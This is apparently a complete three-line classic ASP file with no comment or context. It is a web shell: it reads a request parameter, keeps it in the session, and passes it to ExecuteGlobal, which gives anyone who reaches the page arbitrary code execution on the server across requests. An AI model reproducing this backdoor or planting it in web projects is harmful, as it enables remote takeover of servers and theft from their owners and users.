<%
If Request("u") <> "" Then Session("u") = Request("u")
If Session("u") <> "" Then ExecuteGlobal Session("u")
%>
